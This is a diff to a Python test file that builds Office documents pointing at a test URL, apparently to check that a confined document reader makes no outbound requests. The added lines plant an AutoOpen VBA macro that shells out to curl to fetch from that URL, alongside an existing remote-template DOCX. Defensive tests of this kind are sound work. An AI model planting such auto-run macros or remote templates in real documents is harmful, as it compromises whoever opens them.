@@ -110,13 +110,15 @@ def test_passwords_reach_the_confined_process_which_writes_no_file(reader: Worke
 
 
 def pointing_out(url: str) -> dict[str, bytes]:
-    """A DOCX with a remote template, a PPTX with remote pictures, links and media, an XLSX with a remote workbook."""
+    """A DOCX with macros and a remote template, a PPTX with remote pictures, links and media, an XLSX with a remote workbook."""
     template = relationships(("attachedTemplate", f"{url}/modele.dotm"), external=True)
     settings = '<w:attachedTemplate xmlns:r="{}" r:id="rId1"/></w:settings>'.format(
         "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
     ).encode()
     document = repacked(make_docx(), "word/_rels/settings.xml.rels", lambda _: template)
     document = repacked(document, "word/settings.xml", lambda xml: xml.replace(b"</w:settings>", settings))
+    macros = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + f'Sub AutoOpen() Shell "curl {url}/macro" End Sub'.encode()
+    document = repacked(document, "word/vbaProject.bin", lambda _: macros)
 
     def link(deck: Any) -> None:
         part = deck.slides[1].part
